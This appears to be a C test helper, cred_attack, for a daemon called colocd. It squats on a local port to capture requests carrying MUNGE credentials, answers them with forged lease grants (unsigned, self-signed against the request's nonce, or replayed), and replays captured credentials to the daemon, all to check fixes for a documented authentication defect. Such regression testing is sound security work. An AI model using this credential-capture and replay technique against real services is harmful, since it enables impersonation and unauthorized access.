/*
 * cred_attack: what an unprivileged user can do with a port colocd does
 * not hold (issue 11 defect 1), for tests/integration/cred-attack.sh.
 *
 *   cred_attack listen [--addr ADDR] [--wait SEC] [--want TYPE] [--munge SOCKET]
 *                      [--grant HOW] PORT OUT
 *       Listens on ADDR:PORT (default 127.0.0.1), takes connections for
 *       SEC seconds (default 30) until one brings a request of type TYPE
 *       (default: any; others are dropped unanswered), writes that
 *       request's frame to OUT (a credential captured on its way), and
 *       answers it: by closing, or
 *       with a forged lease_grant when --grant says how to sign it:
 *         unsigned      no credential
 *         self          the caller's own MUNGE credential, bound right:
 *                       to the grant and to the request's nonce, which
 *                       the caller decodes with munged (anyone may)
 *         replay:FILE   the credential of the message captured in FILE
 *       Exit 0 once a frame is captured, 1 without one, 2 when it cannot
 *       listen (the port is held: printed); 64 for a usage error.
 *   cred_attack replay PORT CAPTURED JSON
 *       Sends JSON to 127.0.0.1:PORT with its "cred" replaced by the
 *       credential of the message captured in CAPTURED, and prints the
 *       reply. Exit 0 ok/grant/result, 3 an error reply, 1 no reply.
 *
 * The fixes it shows failing are colocd's and ctl_client's; this program
 * only uses the public modules (frame, msg, auth) as any user could.
 */
#include "config.h"

#include "auth.h"
#include "clock.h"
#include "frame.h"
#include "msg.h"

#include <errno.h>
#include <netdb.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define FORGED_LEASE                                                                               \
	"{\"v\":1,\"type\":\"lease\",\"id\":\"forged\",\"provider\":\"tcp;ofi_rxm\","              \
	"\"rung\":\"writedata\",\"token\":\"00000000000000000000000000000000\","                   \
	"\"slot_size\":4096,\"functions\":[{\"name\":\"noop\",\"id\":0}],"                         \
	"\"workers\":[{\"index\":0,\"cpu\":0,\"addr\":\"00\",\"slot_addr\":\"0x0\","               \
	"\"slot_key\":\"0x0\",\"slots\":1}]}"

/* The message in file path, decoded into m. 0 or -1 (said on stderr). */
static int read_captured(const char *path, struct msg *m)
{
	char text[FRAME_MAX + 1], err[512] = "";
	FILE *f = fopen(path, "r");
	size_t n = f ? fread(text, 1, FRAME_MAX, f) : 0;

	if (f)
		fclose(f);
	text[n] = '\0';
	if (n == 0 || msg_decode(text, m, err, sizeof(err)) != 0) {
		fprintf(stderr, "cred_attack: nothing captured in %s %s\n", path, err);
		return -1;
	}
	return 0;
}

static int listen_on(const char *addr, const char *port)
{
	struct addrinfo hints = {.ai_socktype = SOCK_STREAM, .ai_flags = AI_NUMERICHOST},
			*res = NULL;
	int fd = -1, one = 1;

	if (getaddrinfo(addr, port, &hints, &res) != 0) {
		fprintf(stderr, "cred_attack: bad address %s\n", addr);
		return -1;
	}
	fd = socket(res->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd >= 0 && res->ai_family == AF_INET6)
		setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &one, sizeof(one));
	/* as any server would: a port in TIME_WAIT may be bound again (not
	 * one that another socket listens on) */
	if (fd >= 0)
		setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (fd < 0 || bind(fd, res->ai_addr, res->ai_addrlen) != 0 || listen(fd, 4) != 0) {
		printf("cannot listen on %s port %s: %s\n", addr, port, strerror(errno));
		if (fd >= 0)
			close(fd);
		fd = -1;
	}
	freeaddrinfo(res);
	return fd;
}

/* A forged lease_grant for the request req, signed as how says. */
static int forge(const char *how, const char *munge, const struct msg *req, char **text)
{
	struct cred_opts o = {.socket = munge};
	struct msg g = {.type = MSG_LEASE_GRANT}, donor = {.type = MSG_OK};
	char err[512] = "";
	struct cred_id who;
	int rc = 0;

	snprintf(g.u.grant.id, sizeof(g.u.grant.id), "forged");
	g.u.grant.lease = strdup(FORGED_LEASE);
	if (strcmp(how, "self") == 0) {
		/* the request's nonce: anyone can have munged decode a credential */
		rc = cred_decode(&o, req->cred, &who, err, sizeof(err));
		if (rc == 0)
			rc =
			    auth_sign(&o, &g, AUTH_DEST_REPLY, who.b.nonce, NULL, err, sizeof(err));
	} else if (strncmp(how, "replay:", 7) == 0) {
		rc = read_captured(how + 7, &donor);
		if (rc == 0)
			memcpy(g.cred, donor.cred, sizeof(g.cred));
		msg_free(&donor);
	} else if (strcmp(how, "unsigned") != 0) {
		snprintf(err, sizeof(err), "--grant takes unsigned, self or replay:FILE");
		rc = -EINVAL;
	}
	if (rc == 0)
		rc = msg_encode(&g, text);
	if (rc)
		fprintf(stderr, "cred_attack: cannot forge a grant: %s\n", err);
	msg_free(&g);
	return rc;
}

/* Reads one frame from the next connection on fd within the deadline:
 * 1 with *text (the caller frees it) and *c (the connection, open), 0
 * when none came in time. */
static int next_frame(int fd, int64_t deadline_ms, int *c, char **text)
{
	struct pollfd p = {.fd = fd, .events = POLLIN};
	size_t len;

	for (;;) {
		int64_t left = deadline_ms - clock_ms();

		if (left <= 0 || poll(&p, 1, (int)left) != 1)
			return 0;
		*c = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
		if (*c < 0)
			continue;
		if (frame_recv(*c, text, &len, 5000) == 0)
			return 1;
		close(*c);
	}
}

static int cmd_listen(int argc, char **argv)
{
	const char *addr = "127.0.0.1", *munge = NULL, *grant = NULL, *want = NULL;
	char *text = NULL, *answer = NULL, err[512];
	int i, fd, c = -1, rc = 1, wait_s = 30;
	int64_t deadline;
	struct msg req;
	FILE *out;

	for (i = 0; i + 1 < argc && argv[i][0] == '-'; i += 2) {
		if (strcmp(argv[i], "--addr") == 0)
			addr = argv[i + 1];
		else if (strcmp(argv[i], "--munge") == 0)
			munge = argv[i + 1];
		else if (strcmp(argv[i], "--grant") == 0)
			grant = argv[i + 1];
		else if (strcmp(argv[i], "--wait") == 0)
			wait_s = atoi(argv[i + 1]);
		else if (strcmp(argv[i], "--want") == 0)
			want = argv[i + 1];
		else
			break;
	}
	if (argc - i != 2)
		return 64;
	fd = listen_on(addr, argv[i]);
	if (fd < 0)
		return 2;
	printf("listening on %s port %s\n", addr, argv[i]);
	fflush(stdout);
	deadline = clock_ms() + (int64_t)wait_s * 1000;
	while (rc && next_frame(fd, deadline, &c, &text)) {
		if (msg_decode(text, &req, err, sizeof(err)) == 0 &&
		    (!want || strcmp(msg_type_name(req.type), want) == 0)) {
			out = fopen(argv[i + 1], "w");
			if (out && fputs(text, out) >= 0 && fclose(out) == 0)
				rc = 0;
			if (grant && forge(grant, munge, &req, &answer) == 0)
				frame_send(c, answer, strlen(answer), 5000);
			printf("captured a %s\n", msg_type_name(req.type));
		}
		msg_free(&req);
		free(text);
		text = NULL;
		close(c);
	}
	if (rc)
		fprintf(stderr, "cred_attack: no %s request in %d s\n", want ? want : "", wait_s);
	free(answer);
	close(fd);
	return rc;
}

static int cmd_replay(int argc, char **argv)
{
	char err[512] = "", *text = NULL, *reply = NULL;
	struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM}, *res = NULL;
	struct msg captured, m;
	size_t len;
	int fd = -1, rc = 1;

	if (argc != 3)
		return 64;
	if (read_captured(argv[1], &captured) != 0)
		return 1;
	if (msg_decode(argv[2], &m, err, sizeof(err)) != 0) {
		fprintf(stderr, "cred_attack: the message to send does not decode: %s\n", err);
		msg_free(&captured);
		return 64;
	}
	memcpy(m.cred, captured.cred, sizeof(m.cred));
	msg_free(&captured);
	if (msg_encode(&m, &text) != 0 || getaddrinfo("127.0.0.1", argv[0], &hints, &res) != 0)
		goto out;
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || connect(fd, res->ai_addr, res->ai_addrlen) != 0) {
		perror("cred_attack: connect");
		goto out;
	}
	if (frame_send(fd, text, strlen(text), 5000) != 0 ||
	    frame_recv(fd, &reply, &len, 30000) != 0) {
		fprintf(stderr, "cred_attack: no reply\n");
		goto out;
	}
	printf("%s\n", reply);
	msg_free(&m);
	rc = msg_decode(reply, &m, err, sizeof(err)) != 0 ? 1 : m.type == MSG_ERROR ? 3 : 0;
out:
	msg_free(&m);
	if (res)
		freeaddrinfo(res);
	if (fd >= 0)
		close(fd);
	free(text);
	free(reply);
	return rc;
}

int main(int argc, char **argv)
{
	int rc = 64; /* a usage error */

	if (argc > 1 && strcmp(argv[1], "listen") == 0)
		rc = cmd_listen(argc - 2, argv + 2);
	else if (argc > 1 && strcmp(argv[1], "replay") == 0)
		rc = cmd_replay(argc - 2, argv + 2);
	if (rc == 64)
		fprintf(stderr,
			"usage: cred_attack listen [--addr ADDR] [--wait SEC] [--want TYPE] "
			"[--munge SOCKET] [--grant unsigned|self|replay:FILE] PORT OUT\n"
			"       cred_attack replay PORT CAPTURED JSON\n");
	return rc;
}
